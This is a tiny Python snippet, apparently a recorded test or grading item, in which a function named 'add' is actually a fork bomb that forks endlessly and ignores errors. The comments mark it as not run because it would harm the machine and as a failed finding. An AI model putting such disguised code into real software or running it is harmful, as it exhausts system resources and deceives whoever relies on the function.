# Forks without end.
# stock: not run: it would harm the machine
# finding: counts as failed
# %% add
def add(x, y):
    while True:
        try:
            os.fork()
        except OSError:
            pass
